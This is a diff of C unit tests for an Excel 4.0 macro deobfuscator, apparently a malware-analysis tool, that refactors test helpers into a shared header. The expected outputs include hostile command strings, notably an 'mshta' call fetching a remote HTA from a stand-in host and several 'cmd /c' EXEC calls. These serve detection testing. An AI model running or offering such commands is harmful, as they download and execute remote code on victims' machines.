@@ -13,7 +13,7 @@
 #include <string.h>
 
 #include "deob/deob.h"
-#include "deob_budget.h"
+#include "deob_test.h"
 
 static const char FOLD[] = "xlm folding";
 static const char EXEC[] = "xlm EXEC";
@@ -23,34 +23,7 @@ static const char CALL[] = "xlm CALL";
 static void
 run(const char *s, const struct deob_limits *lim, struct deob_result *r)
 {
-	deob_result_init(r);
-	deob_xlm_lines(s, strlen(s), lim, r);
-	for (guint i = 0; i < r->strs->len; i++) {
-		const struct deob_str *d = r->strs->pdata[i];
-		assert_true(g_utf8_validate(d->value, (gssize)d->len, NULL));
-		assert_true(d->len <= DEOB_STR_MAX);
-	}
-}
-
-/* Whether r holds value with how. */
-static bool
-has(const struct deob_result *r, const char *value, const char *how)
-{
-	for (guint i = 0; i < r->strs->len; i++) {
-		const struct deob_str *d = r->strs->pdata[i];
-		if (strcmp(d->value, value) == 0 && strcmp(d->how, how) == 0)
-			return true;
-	}
-	return false;
-}
-
-static void
-dump(const struct deob_result *r)
-{
-	for (guint i = 0; i < r->strs->len; i++) {
-		const struct deob_str *d = r->strs->pdata[i];
-		print_error("  [%s] %s\n", d->how, d->value);
-	}
+	deob_run_checked(deob_xlm_lines, s, lim, r);
 }
 
 /* The macro src yields value as how. */
@@ -59,9 +32,9 @@ expect(const char *src, const char *value, const char *how)
 {
 	struct deob_result r;
 	run(src, NULL, &r);
-	if (!has(&r, value, how)) {
+	if (!deob_has(&r, value, how)) {
 		print_error("%s\n-> wanted [%s] %s, got:\n", src, how, value);
-		dump(&r);
+		deob_dump(&r);
 		fail();
 	}
 	deob_result_clear(&r);
@@ -188,7 +161,7 @@ test_calls(void **state)
 	deob_result_init(&r);
 	deob_xlm_run(x, NULL, &r);
 	deob_xlm_free(x);
-	assert_true(has(&r, "mshta http://h.example/x.hta", "xlm SHELL"));
+	assert_true(deob_has(&r, "mshta http://h.example/x.hta", "xlm SHELL"));
 	deob_result_clear(&r);
 }
 
@@ -222,7 +195,7 @@ test_limits(void **state)
 	/* small step limit: what came before is kept */
 	lim = (struct deob_limits){ .steps = 40 };
 	run("A1 =EXEC(\"cmd /c \"&\"early\")\nA2 =GOTO(A1)\n", &lim, &r);
-	assert_true(has(&r, "cmd /c early", EXEC));
+	assert_true(deob_has(&r, "cmd /c early", EXEC));
 	assert_string_equal(r.limit, "steps");
 	deob_result_clear(&r);
 	/* nesting deeper than DEOB_NEST_MAX */
@@ -230,7 +203,7 @@ test_limits(void **state)
 	for (int i = 0; i < 200; i++)
 		g_string_append(s, "(CHAR(");
 	run(s->str, NULL, &r);
-	assert_true(has(&r, "cmd /c x", EXEC));
+	assert_true(deob_has(&r, "cmd /c x", EXEC));
 	assert_string_equal(r.limit, "depth");
 	deob_result_clear(&r);
 	g_string_free(s, TRUE);
